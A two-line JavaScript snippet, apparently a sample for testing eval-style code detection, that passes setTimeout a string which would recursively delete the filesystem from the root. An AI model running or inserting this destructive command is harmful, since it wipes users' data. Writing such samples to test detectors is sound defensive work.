const job = 'require("fs").rmSync("/", {recursive: true})';
setTimeout(job, 0);
